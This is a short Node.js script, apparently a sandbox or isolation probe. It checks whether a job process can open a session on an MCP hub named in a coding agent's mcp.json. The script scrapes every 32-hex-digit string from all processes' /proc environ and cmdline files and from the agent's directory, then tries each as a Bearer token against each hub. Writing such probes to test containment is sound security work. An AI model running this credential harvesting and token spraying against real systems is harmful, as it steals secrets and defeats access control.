// A process of the job tries to open a session on the hub: with the header pi's mcp.json names
// (its references expanded from this process's own environment) and with every token-like string
// it can find.
import fs from "node:fs";
const dir = process.env.PI_CODING_AGENT_DIR;
const config = JSON.parse(fs.readFileSync(`${dir}/mcp.json`, "utf8"));
const tokens = new Set([""]);
const look = (text) => { for (const m of text.matchAll(/[0-9a-f]{32}/g)) tokens.add(m[0]); };
for (const p of fs.readdirSync("/proc")) {
  for (const f of ["environ", "cmdline"]) {
    try { look(fs.readFileSync(`/proc/${p}/${f}`, "latin1")); } catch {}
  }
}
for (const f of fs.readdirSync(dir)) { try { look(fs.readFileSync(`${dir}/${f}`, "latin1")); } catch {} }
const expand = (v) => v.replace(/\$\{([A-Z0-9_]+)\}/g, (_, n) => process.env[n] ?? "");
const init = { jsonrpc: "2.0", id: 1, method: "initialize",
  params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "by-hand", version: "1" } } };
for (const [name, server] of Object.entries(config.mcpServers)) {
  const tries = [expand(server.headers?.Authorization ?? "")].concat([...tokens].map((t) => `Bearer ${t}`));
  const statuses = new Set();
  for (const auth of tries) {
    const r = await fetch(server.url, { method: "POST", body: JSON.stringify(init),
      headers: { "content-type": "application/json", accept: "application/json, text/event-stream", authorization: auth } });
    statuses.add(r.status);
    if (r.ok) console.log(`HUB-SESSION-OPENED ${name}`);
  }
  console.log(`hub ${name}: ${tries.length} tries, statuses ${[...statuses].join(",")}`);
}
